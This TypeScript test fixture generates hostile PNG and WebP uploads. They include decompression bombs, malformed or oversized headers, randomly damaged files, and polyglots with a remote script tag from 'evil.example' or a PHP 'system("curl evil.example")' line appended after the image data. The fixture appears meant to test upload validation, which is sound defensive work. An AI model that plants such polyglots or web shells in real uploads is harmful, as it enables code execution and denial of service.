import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { zipSync, strToU8 } from 'fflate';
import { createRandom } from '../drills/billing/random';

/** Stands in whatever a file carries beside its pixels. */
export const marker = 'evil.example';

export type HostileUpload = { name: string; type: string; bytes: Buffer };

const signature = Buffer.from('\u0089PNG\r\n\u001a\n', 'latin1');
const script = `<script src="https://${marker}/a.js"></script>`;

function chunk(type: string, data: Uint8Array | string): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), Buffer.from(data)]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(body.byteLength - 4);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

function header(width: number, height: number, [depth, color, interlace] = [8, 6, 0]): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data.set([depth ?? 8, color ?? 6, 0, 0, interlace ?? 0], 8);
  return chunk('IHDR', data);
}

const rows = (width: number, height: number) =>
  deflateSync(Buffer.alloc((width * 4 + 1) * height, 0));
const end = chunk('IEND', '');
/** A good picture of 32 pixels, with these chunks before its pixels. */
const png = (...chunks: Buffer[]) =>
  Buffer.concat([signature, header(32, 32), ...chunks, chunk('IDAT', rows(32, 32)), end]);
const sized = (width: number, height: number, pixels = rows(32, 32)) =>
  Buffer.concat([signature, header(width, height), chunk('IDAT', pixels), end]);

/** A gigabyte would take this process seconds to compress; a share of it shows the same. */
const zeros = deflateSync(Buffer.alloc(200 * 1024 * 1024), { level: 9 });

function animated(): Buffer {
  const control = Buffer.alloc(8);
  control.writeUInt32BE(2, 0);
  return png(chunk('acTL', control));
}

function pngs(): [name: string, bytes: Buffer][] {
  const sizes = [
    [0, 0],
    [1, 1],
    [0, 32],
    [2 ** 31 - 1, 2 ** 31 - 1],
    [2 ** 32 - 1, 1],
    [100_000, 1],
  ];
  const larger = [
    [4097, 16],
    [16, 4097],
    [60_000, 60_000],
    [20_000, 20_000],
  ];
  const text = (type: string) => png(chunk(type, `Comment\0${script}`));
  return [
    ...[...sizes, ...larger].map(([width = 0, height = 0]): [string, Buffer] => [
      `of ${width} by ${height} pixels`,
      sized(width, height),
    ]),
    ['of 16 million pixels of one color', sized(4096, 4096, rows(4096, 4096))],
    ['with more pixels than it has room for', sized(32, 32, zeros)],
    ['with too few pixels', sized(512, 512)],
    [
      'with a color profile that unfolds',
      png(chunk('iCCP', Buffer.concat([Buffer.from('a\0\0'), zeros]))),
    ],
    ['with a text that unfolds', png(chunk('zTXt', Buffer.concat([Buffer.from('a\0\0'), zeros])))],
    [
      'with four texts that unfold',
      png(
        ...[1, 2, 3, 4].map(() =>
          chunk('iTXt', Buffer.concat([Buffer.from('a\0\u0001\0\0\0'), zeros])),
        ),
      ),
    ],
    ...['tEXt', 'iTXt', 'zTXt', 'eXIf', 'iCCP', 'sPLT', 'hIST', 'prVt', 'IDOT'].map(
      (type): [string, Buffer] => [`with markup in its ${type}`, text(type)],
    ),
    [
      'with ten thousand chunks',
      png(...Array.from({ length: 10_000 }, () => chunk('tEXt', 'a\0b'))),
    ],
  ];
}

function brokenPngs(): [name: string, bytes: Buffer][] {
  return [
    ['that is animated', animated()],
    [
      'with a palette that is missing',
      Buffer.concat([signature, header(32, 32, [8, 3, 0]), chunk('IDAT', rows(32, 32)), end]),
    ],
    [
      'of a color type that there is not',
      Buffer.concat([signature, header(32, 32, [8, 5, 0]), chunk('IDAT', rows(32, 32)), end]),
    ],
    [
      'interlaced in a way that there is not',
      Buffer.concat([signature, header(32, 32, [8, 6, 9]), chunk('IDAT', rows(32, 32)), end]),
    ],
    ['without a header', Buffer.concat([signature, chunk('IDAT', rows(32, 32)), end])],
    [
      'with two headers',
      Buffer.concat([
        signature,
        header(32, 32),
        header(9999, 9999),
        chunk('IDAT', rows(32, 32)),
        end,
      ]),
    ],
    ['without pixels', Buffer.concat([signature, header(32, 32), end])],
    ['without an end', png().subarray(0, -12)],
    ['of its signature alone', signature],
    ['that is a web page after its end', Buffer.concat([png(), Buffer.from(`<html>${script}`)])],
    [
      'that is an SVG after its end',
      Buffer.concat([
        png(),
        Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
      ]),
    ],
    [
      'that is an archive after its end',
      Buffer.concat([png(), zipSync({ [marker]: strToU8(script) })]),
    ],
    [
      'that is a program after its end',
      Buffer.concat([png(), Buffer.from(`<?php system("curl ${marker}") ?>`)]),
    ],
    ['that is markup behind the signature', Buffer.concat([signature, Buffer.from(script)])],
    [
      'with a chunk of two gigabytes',
      Buffer.concat([signature, header(32, 32), Buffer.from('7fffffff49444154', 'hex')]),
    ],
    [
      'with a chunk of negative length',
      Buffer.concat([signature, header(32, 32), Buffer.from('ffffffff49444154', 'hex')]),
    ],
  ];
}

async function webps(): Promise<[name: string, bytes: Buffer][]> {
  const frame = { create: { width: 32, height: 64, channels: 4, background: '#06c' } } as const;
  const plain = await sharp(frame).webp().toBuffer();
  const other = { create: { ...frame.create, background: '#c00' } };
  const stills = await Promise.all([frame, other].map((one) => sharp(one).png().toBuffer()));
  const moving = await sharp(stills, { join: { animated: true } })
    .webp()
    .toBuffer();
  const canvas = Buffer.alloc(10);
  canvas[0] = 0x02;
  canvas.writeUIntLE(16_383, 4, 3);
  canvas.writeUIntLE(16_383, 7, 3);
  const riff = (body: Buffer) => {
    const size = Buffer.alloc(4);
    size.writeUInt32LE(body.byteLength + 4);
    return Buffer.concat([Buffer.from('RIFF'), size, Buffer.from('WEBP'), body]);
  };
  const part = (type: string, data: Buffer) => {
    const size = Buffer.alloc(4);
    size.writeUInt32LE(data.byteLength);
    return Buffer.concat([Buffer.from(type), size, data, Buffer.alloc(data.byteLength % 2)]);
  };
  return [
    ['that is animated', moving],
    [
      'of an animation of 268 million pixels',
      riff(Buffer.concat([part('VP8X', canvas), part('ANIM', Buffer.alloc(6))])),
    ],
    ['with markup after its end', Buffer.concat([plain, Buffer.from(script)])],
    [
      'with markup in its metadata',
      riff(Buffer.concat([plain.subarray(12), part('XMP ', Buffer.from(script))])),
    ],
    ['of nothing but markup', riff(Buffer.from(script))],
    [
      'that says it is larger',
      Buffer.concat([plain.subarray(0, 4), Buffer.from('ffffff7f', 'hex'), plain.subarray(8)]),
    ],
    ['of its head alone', plain.subarray(0, 12)],
  ];
}

/** Copies with some of their bytes changed, or cut off. */
function damage(file: Buffer, count: number, seed: number): Buffer[] {
  const random = createRandom(seed);
  return Array.from({ length: count }, (_, i) => {
    const at = 8 + Math.floor(random() * (file.byteLength - 8));
    if (i % 3 === 0) return file.subarray(0, at);
    const copy = Buffer.from(file);
    for (let one = 0; one <= i % 7; one++)
      copy[8 + Math.floor(random() * (file.byteLength - 8))] = Math.floor(random() * 256);
    return copy;
  });
}

/** Files that claim to be a PNG or a WebP: bombs, broken ones, polyglots, and other formats. */
export async function hostileBitmaps(): Promise<HostileUpload[]> {
  const noise = {
    create: {
      width: 64,
      height: 64,
      channels: 3,
      background: '#000',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  } as const;
  const [goodPng, goodWebp] = [
    await sharp(noise).png().toBuffer(),
    await sharp(noise).webp().toBuffer(),
  ];
  const broken = (kind: string, file: Buffer) =>
    damage(file, 45, kind.length).map((bytes, i): [string, Buffer] => [
      `damaged, number ${i}`,
      bytes,
    ]);
  const others: [string, Buffer][] = [
    ['that is a GIF', Buffer.from('GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;', 'latin1')],
    ['that is a PDF', Buffer.from('%PDF-1.7\n')],
    ['that is a JPEG', await sharp(noise).flatten().jpeg().toBuffer()],
    ['that is a TIFF', await sharp(noise).tiff().toBuffer()],
    ['that is an SVG', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`)],
    ['that is empty', Buffer.alloc(0)],
  ];
  const named = (type: string, kind: string, list: [string, Buffer][]) =>
    list.map(([name, bytes]) => ({ name: `a ${kind} ${name}`, type, bytes }));
  return [
    ...named('image/png', 'PNG', [
      ...pngs(),
      ...brokenPngs(),
      ...others,
      ...broken('png', goodPng),
    ]),
    ...named('image/webp', 'WebP', [...(await webps()), ...others, ...broken('webp', goodWebp)]),
  ];
}
